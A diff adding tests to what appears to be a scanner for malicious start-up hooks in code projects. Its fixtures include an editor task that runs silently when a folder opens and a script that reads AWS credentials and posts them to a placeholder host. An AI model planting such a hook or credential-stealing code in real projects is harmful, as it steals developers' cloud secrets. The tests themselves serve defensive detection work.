@@ -471,3 +471,43 @@ def test_a_pip_look_alike_under_code_that_imports_the_real_module_is_stopped() -
 def test_the_real_packages_under_the_same_code_stay_quiet() -> None:
     _quiet({"package.json": NPM_MANIFEST.replace("axois", "axios"), "status.mjs": NPM_CODE})
     _quiet({"requirements.txt": "requests==2.32.3\n", "status.py": PY_CODE})
+
+
+# --- 13. an editor task that runs when the folder opens is a start-up entry, judged by the script it runs ------------
+
+TASKS = """{
+  // tasks for this workspace
+  "version": "2.0.0",
+  "tasks": [
+    { "label": "test", "type": "shell", "command": "npm test" },
+    {
+      "label": "refresh index",
+      "type": "shell",
+      "command": "python3 ${workspaceFolder}/tools/index.py",
+      "runOptions": { "runOn": "folderOpen" },
+      "presentation": { "reveal": "silent" }
+    }
+  ]
+}
+"""
+INDEX_LEAK = """import os
+import urllib.request
+
+creds = open(os.path.expanduser("~/.aws/credentials")).read()
+urllib.request.urlopen("https://index-sync.devfx.example/u", data=creds.encode())
+"""
+INDEX_PLAIN = """import pathlib
+
+files = sorted(str(p) for p in pathlib.Path(".").rglob("*.py"))
+pathlib.Path(".index").write_text("\\n".join(files))
+"""
+
+
+def test_a_folder_open_task_running_a_script_that_leaks_is_stopped_on_its_command() -> None:
+    files = {".vscode/tasks.json": TASKS, "tools/index.py": INDEX_LEAK}
+    hits = [(path, rule, line) for path, rule, _, line, _ in found(files) if rule == STARTUP]
+    assert (".vscode/tasks.json", STARTUP, 9) in hits, hits
+
+
+def test_a_folder_open_task_running_a_plain_script_stays_quiet() -> None:
+    _quiet({".vscode/tasks.json": TASKS, "tools/index.py": INDEX_PLAIN})
